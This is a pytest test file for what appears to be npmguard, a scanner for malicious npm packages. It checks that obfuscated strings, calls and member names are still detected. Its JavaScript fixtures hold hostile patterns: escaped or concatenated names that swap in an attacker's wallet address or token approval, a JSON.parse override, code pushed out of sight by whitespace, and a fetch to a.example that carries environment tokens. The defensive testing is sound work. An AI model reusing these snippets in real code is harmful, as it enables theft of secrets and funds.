"""What is passed over because it cannot be asked for, and what only looks as if it could be passed over."""

from __future__ import annotations

import re
import sys

import pytest

from npmguard.javascript.interest import Interest
from npmguard.model import Fact, FactKind
from tests.javascript_facts import names, read

OWN = '"0x1111111111111111111111111111111111111111"'
TEXTS = Interest(
    strings=True,
    string_length=sys.maxsize,
    string_values=frozenset({"exact", "na\u00efve"}),
    string_pattern=re.compile(rb"bc1q|\xc3\xa9t\xc3\xa9|secret"),
)
CALLS = Interest(calls=frozenset({"fetch"}), news=frozenset({"WebSocket"}), reads=frozenset({"ethereum"}))


def found(code: bytes, interest: Interest, path: str) -> list[Fact]:
    return [fact for fact in read(code, path, interest).facts if interest.wants(fact)]


@pytest.mark.parametrize("path", ["index.js", "index.ts"])
@pytest.mark.parametrize(
    "code",
    [
        b"a('bc1q', 'xsecretx', 'exact', 'other', '\xc3\xa9t\xc3\xa9', 'na\xc3\xafve')",
        b"a('bc\\x31q', 'sec\\\nret', 'e\\u0078act', 'bc1\\\\q')",
        b"a('bc1q\0', 'bc1\0q', '\0secret\0', 'sec', 'ret')",
        b"a('bc1q\xff', '\xffsecret', 'sec\xffret', '\xe9t\xe9')",
        b"a('bc1' + 'q', 'sec' + b + 'ret', `se${'cret'}`)",
        b"a('bc1', 'q', 'exact ', 'exac', 'sec&ret')",
    ],
)
def test_the_same_strings_are_found_where_only_some_are_asked_for(code: bytes, path: str) -> None:
    every = [fact for fact in read(code, path).facts if fact.kind is FactKind.STRING and TEXTS.wants(fact)]
    assert found(code, TEXTS, path) == every


@pytest.mark.parametrize("path", ["index.js", "index.ts"])
@pytest.mark.parametrize(
    "code",
    [
        b"const f = fetch; f(a); f(b); function g(f) { f(c) }",
        b"let f = fetch; f(a); f = other; f(b)",
        b"f\\u0065tch(a); self.f\\u0065tch(b); const f\\u0066 = fetch; ff(c)",
        b"const o = { a: fetch }; o.a(u); o['a'](v); p.a(w)",
        b"const o = {}; o['b'] = self.fetch; o.b(u)",
        b"fetch.call(null, a); fetch?.(b); (0, fetch)(c); new WebSocket(d); new (self['Web' + 'Socket'])(e)",
        b"const { ethereum: e } = window; e; window['ether' + 'eum']; o.eth\\u0065reum; ethereum; (ethereum)()",
        b"const e = ''; o[e](a); self[e](b)",
    ],
)
def test_the_same_names_are_found_where_only_some_are_asked_for(code: bytes, path: str) -> None:
    kinds = {FactKind.CALL, FactKind.NEW, FactKind.READ}
    every = [fact for fact in read(code, path).facts if fact.kind in kinds and CALLS.wants(fact)]
    assert found(code, CALLS, path) == every


@pytest.mark.parametrize(
    ("code", "shape"),
    [
        (f"node.t\\u0065xtContent = {OWN}", "plants-address-in-page"),
        (f"node['in' + 'nerHTML'] = {OWN}", "plants-address-in-page"),
        (f"node['set' + 'Attribute']('src', {OWN})", "plants-address-in-page"),
        (f"order['t' + 'o'] = {OWN}", "pays-own-address"),
        (f"order.t\\u006f = {OWN}", "pays-own-address"),
        (f"token['app' + 'rove']({OWN}, 1)", "pays-own-address"),
        ("JSON['par' + 'se'] = function () { return Math.random() }", "corrupts-builtin"),
        ("JSON.p\\u0061rse = function () { return Math.random() }", "corrupts-builtin"),
        ("const s = self['set' + 'Timeout']; s(f, 9e8)", "long-delay"),
        ("self['set' + 'Timeout'](f, 9e8)", "long-delay"),
    ],
)
def test_hidden_names_of_members_are_not_passed_over(code: str, shape: str) -> None:
    assert shape in names(code, FactKind.SHAPE)


@pytest.mark.parametrize(
    "before",
    [
        b"const \xc3\xa9 = '\xe3\x81\x82\xe3\x81\x84';",
        b"// \xe2\x80\x99\xe3\x80\x81\xc2\xa9\nconst a = 1;",
        b"// " + b"\xe3\x81\x82" * 60 + b"\nconst a = 1;",
        b"// \x80\xaf\xe2\xe3\xc2\nconst a = 1;",
    ],
)
@pytest.mark.parametrize(
    "blanks", [b" " * 400, b"\xc2\xa0" * 400, b"\xe3\x80\x80 " * 200, b"\xe2\x80\x83\t" * 200, b" \t" * 60]
)
def test_blanks_are_found_beside_other_characters_of_their_bytes(before: bytes, blanks: bytes) -> None:
    code = before + blanks + b"fetch('u')\nconst b = 2;\n"
    (shape,) = [fact for fact in read(code).facts if fact.name == "code-out-of-sight"]
    assert code[shape.start :].startswith(b"fetch('u')")


def test_a_sum_with_a_comment_in_it_is_a_sum() -> None:
    code = "a('sec' /* a */ + 'ret', /* b */ 'bc' + /* c */ '1' + 'q')"
    assert {fact.value for fact in read(code).facts} >= {"secret", "bc1q"}


def test_every_call_of_a_function_gives_it_something_also_those_after_its_return_is_followed() -> None:
    calls = "".join(
        f"fetch('https://a.example/', {{ body: f(process.env.{each}_TOKEN, 1) }});" for each in "AB"
    )
    spread = "fetch('https://a.example/', { body: f(...[process.env.C_TOKEN]) });"
    code = f"function f(a, b) {{ return g(a) }} function g(c) {{ return c + b }} {calls}{spread}"
    flows = [fact for fact in read(code).facts if fact.name == "environment-secret>network"]
    assert sorted(str(fact.value) for fact in flows) == ["A_TOKEN", "B_TOKEN", "C_TOKEN"]
